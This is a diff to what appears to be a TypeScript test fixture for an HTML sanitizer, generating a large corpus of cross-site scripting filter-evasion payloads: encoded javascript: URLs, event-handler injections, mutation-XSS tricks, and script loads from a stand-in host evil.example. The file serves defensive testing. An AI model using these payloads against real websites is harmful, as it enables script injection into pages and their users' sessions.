@@ -1,5 +1,94 @@
-/** HTML after the well-known ways around filters: nothing of it may run, or load something by itself. */
-export const hostileHtml: readonly string[] = [
+/** Letters as decimal references, padded to seven figures and without the sign that ends them. */
+const inDecimals = (text: string): string =>
+  text.replaceAll(/./g, (letter) => `&#${String(letter.charCodeAt(0)).padStart(7, "0")}`);
+/** Letters as hexadecimal references, ended or not. */
+const inHex = (text: string, end: "" | ";"): string =>
+  text.replaceAll(/./g, (letter) => `&#x${letter.charCodeAt(0).toString(16)}${end}`);
+const inCss = (text: string): string =>
+  text.replaceAll(/./g, (letter) => `\\${letter.charCodeAt(0).toString(16).padStart(4, "0")}`);
+
+/** Addresses that would run something, in the ways in which they hide from those who look for `javascript:`. */
+const runningAddresses: readonly string[] = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "javascript&colon;alert(1)",
+  "javascript&#58alert(1)",
+  "java\0script:alert(1)",
+  "jav\tascript:alert(1)",
+  "jav\nascript:alert(1)",
+  "jav\rascript:alert(1)",
+  "jav&#x09;ascript:alert(1)",
+  "jav&#x0A;ascript:alert(1)",
+  "jav&#x0D;ascript:alert(1)",
+  "jav&Tab;ascript&NewLine;:alert(1)",
+  " &#14;  javascript:alert(1)",
+  "\u{1}javascript:alert(1)",
+  "\u{A0}javascript:alert(1)",
+  "\u{FEFF}javascript:alert(1)",
+  "java\u{AD}script:alert(1)",
+  inDecimals("javascript:alert(1)"),
+  inHex("javascript:alert(1)", ""),
+  inHex("javascript:alert(1)", ";"),
+  "vbscript:msgbox(1)",
+  "livescript:alert(1)",
+  "mocha:alert(1)",
+  "feed:javascript:alert(1)",
+  "view-source:javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
+  "data:image/svg+xml,<svg onload=alert(1)>",
+  "data:application/xhtml+xml,<script>alert(1)</script>",
+  "blob:https://evil.example/0",
+  "filesystem:https://evil.example/temporary/x.html",
+  "//evil.example/x",
+  "\\\\evil.example\\x",
+  "http:evil.example",
+];
+
+/** Where an address is run, followed or fetched; `X` stands for it. */
+const addressedPlaces: readonly string[] = [
+  `<a href="X">x</a>`,
+  `<a xlink:href="X">x</a>`,
+  `<img src="X">`,
+  `<img src='X' alt=x>`,
+  `<img dynsrc="X" lowsrc="X" longdesc="X">`,
+  `<input type="image" src="X">`,
+  `<body background="X">x</body>`,
+  `<table background="X"><tr><td background="X">x</td></tr></table>`,
+  `<bgsound src="X">`,
+  `<link rel="stylesheet" href="X">`,
+  `<meta http-equiv="refresh" content="0;url=X">`,
+  `<meta http-equiv="refresh" content="0; url=https://;url=X">`,
+  `<iframe src="X"></iframe>`,
+  `<iframe srcdoc="<a href='X'>x</a>"></iframe>`,
+  `<frameset><frame src="X"></frameset>`,
+  `<object data="X"></object>`,
+  `<object classid="clsid:ae24fdae"><param name="url" value="X"></object>`,
+  `<applet code="X"></applet>`,
+  `<embed src="X">`,
+  `<base href="X">`,
+  `<form action="X"><input type="submit" formaction="X"></form>`,
+  `<layer src="X"></layer>`,
+  `<svg><a xlink:href="X"><text>x</text></a></svg>`,
+  `<svg><use href="X"></use><image href="X"></image></svg>`,
+  `<svg><animate attributeName="href" values="X"></animate></svg>`,
+  `<math href="X">x</math>`,
+  `<video src="X" poster="X"></video>`,
+  `<audio src="X"></audio>`,
+  `<picture><source srcset="X"></picture>`,
+  `<p style="background-image:url(X)">x</p>`,
+  `<style>p{background:url("X")}</style>`,
+  `<style>@import "X";</style>`,
+];
+
+/** What browsers tell of, now or once; each would run what stands with it. */
+const events =
+  "abort activate afterprint animationend auxclick beforecopy beforeinput beforetoggle begin blur bounce canplay change click close contextmenu copy cut dblclick drag dragend dragenter dragleave dragover dragstart drop end error finish focus focusin focusout fullscreenchange gotpointercapture hashchange help input invalid keydown keypress keyup load loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress propertychange readystatechange repeat reset resize scroll scrollend search securitypolicyviolation seek select selectionchange selectstart show slotchange start stop storage submit timeerror toggle touchstart touchend transitionend unload webkitanimationend wheel".split(
+    " ",
+  );
+
+/** What else has come through filters. */
+const others: readonly string[] = [
   `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
   `<IMG SRC="javascript:alert('XSS');">`,
   `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
@@ -50,4 +139,62 @@ export const hostileHtml: readonly string[] = [
   `<pre data-language="x onload=alert(1)">x</pre>`,
   `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
   `<BASE HREF="javascript:alert('XSS');//">`,
+  `<SCRIPT/SRC="https://evil.example/x.js"></SCRIPT>`,
+  `<SCRIPT SRC=//evil.example/.j>`,
+  `<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>`,
+  `<SCRIPT a=">" '' SRC="https://evil.example/x.js"></SCRIPT>`,
+  `<SCRIPT "a='>'" SRC="https://evil.example/x.js"></SCRIPT>`,
+  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/x.js"></SCRIPT>`,
+  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
+  `<IMG SRC="https://evil.example/x.gif\\`,
+  `<IMG SRC="javascript:alert(1)"`,
+  `\\<a onmouseover="alert(1)"\\>x\\</a\\>`,
+  `<a onmouseover=alert(1)>x</a>`,
+  `<img/src=x/onerror=alert(1)>`,
+  `<img src=x onerror="${inDecimals("alert(1)")}">`,
+  `<img src=x:x onerror\n=\nalert(1)>`,
+  `<img src="x\` onerror=alert(1)"><p title="\`x">`,
+  `<BR SIZE="&{alert(1)}">`,
+  `<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">`,
+  `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">`,
+  `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-`,
+  `<STYLE>BODY{-moz-binding:url("https://evil.example/x.xml#x")}</STYLE>`,
+  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>`,
+  `<STYLE TYPE="text/javascript">alert(1);</STYLE>`,
+  `<IMG STYLE="x:expr/*x*/ession(alert(1))">`,
+  `exp/*<A STYLE='no\\x:nox("*//*");x:ex/*x*//*/*/pression(alert(1))'>x</A>`,
+  `<X STYLE="x:expression(alert(1))">x</X>`,
+  `<X STYLE="behavior: url(x.htc);">x</X>`,
+  `<DIV STYLE="background-image:${inCss("url('javascript:alert(1)')")}">x</DIV>`,
+  `<DIV STYLE="width: expression(alert(1));">x</DIV>`,
+  `<HTML xmlns:x><?import namespace="x" implementation="https://evil.example/x.htc"><x:x>x</x:x></HTML>`,
+  `<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML><SPAN DATASRC="#x" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
+  `<XML SRC="https://evil.example/x.xml" ID=I></XML>`,
+  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" to="x<SCRIPT DEFER>alert(1)</SCRIPT>"></BODY></HTML>`,
+  `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=https://evil.example/x.js></SCRIPT>'"-->`,
+  `<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>`,
+  `<![CDATA[<script>alert(1)</script>]]>`,
+  `\u{BC}script\u{BE}alert(1)\u{BC}/script\u{BE}`,
+  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
+  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
+  `<svg></p><style><a title="</style><img src=x onerror=alert(1)>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
+  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
+  `<template><script>alert(1)</script></template>`,
+  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
+  `<select><option><script>alert(1)</script></option></select>`,
+  `<details open ontoggle=alert(1)>x</details>`,
+  `<marquee onstart=alert(1)>x</marquee>`,
+  `<keygen autofocus onfocus=alert(1)>`,
+  `<isindex type=image src=1 onerror=alert(1)>`,
+  `<portal src="https://evil.example"></portal>`,
+  `<p id="x" name="x" class="x" contenteditable onblur=alert(1) tabindex=0 autofocus>x</p>`,
+];
+
+/** HTML after the well-known ways around filters: nothing of it may run, or load something by itself. */
+export const hostileHtml: readonly string[] = [
+  ...others,
+  ...addressedPlaces.flatMap((place) => runningAddresses.map((address) => place.replaceAll("X", () => address))),
+  ...events.map((event) => `<p on${event}="alert(1)">x</p><img src=x on${event}=alert(1)><svg/on${event}=alert(1)>`),
 ];
